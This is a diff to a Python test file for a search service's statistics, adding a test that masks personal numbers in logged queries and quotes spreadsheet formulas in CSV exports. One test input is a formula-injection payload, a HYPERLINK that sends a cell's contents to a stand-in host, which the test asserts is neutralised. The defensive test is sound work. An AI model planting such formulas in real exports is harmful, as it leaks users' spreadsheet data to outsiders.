@@ -230,7 +230,8 @@ def test_click_through_by_position_queries_without_clicks_and_days(service):
         (_days_ago(1), "f" * 32, "law-2025", 1),  # no search of the period has this id
     ])
     report = stats_report(service.stats, days=30)
-    assert report.searches == 4 and report.clicks == 4 and report.clicked_searches == 3
+    # of the four first pages, a and c were clicked (b is a's second page)
+    assert report.searches == 4 and report.clicks == 4 and report.clicked_searches == 2
     rates = {rate.position: rate for rate in report.positions}
     # positions 1-10: the three first pages (all of 25 results); 11-20: the page turned
     assert (rates[1].shown, rates[1].clicked, rates[1].clicks) == (3, 1, 2)
@@ -444,3 +445,20 @@ def test_a_statistics_file_that_cannot_be_read_is_said_so(sample_store, tmp_path
     assert str(tmp_path) not in answer.text
     assert main(["stats", "--stats-file", str(broken)]) == 3
     assert f"cannot read the statistics file {broken}" in capsys.readouterr().err
+
+
+def test_what_could_name_a_person_is_masked_and_formulas_are_quoted(staffed):
+    """Citizens paste ID-card and phone numbers and e-mail addresses into search boxes: they
+    are never recorded. And a query is text in the CSV files, never a spreadsheet formula."""
+    for q in ["身份证11010519491231002X丢了怎么补办", "社保咨询 13800138000", "wang.li@example.com 退休",
+              '=HYPERLINK("http://x.example/?"&A1,"点此")', "莆政办〔2020〕8号"]:
+        staffed.get("/api/v1/search", params={"q": q})
+    staffed.app.state.search_stats.flush()
+    stored = b"".join(path.read_bytes() for path in staffed.stats_file.parent.glob("stats.db*"))
+    for secret in ("11010519491231002", "13800138000", "wang.li@example.com"):
+        assert secret.encode() not in stored
+    answer = staffed.get("/admin/stats.csv", params={"table": "top"}, headers=bearer(staffed, "admin"))
+    queries = [row[0] for row in _csv(answer)[1:]]
+    assert "社保咨询 ###########" in queries and "莆政办〔2020〕8号" in queries  # document numbers are kept
+    assert not any(query.startswith(("=", "+", "-", "@")) for query in queries)
+    assert any(query.startswith("'=hyperlink(") for query in queries)
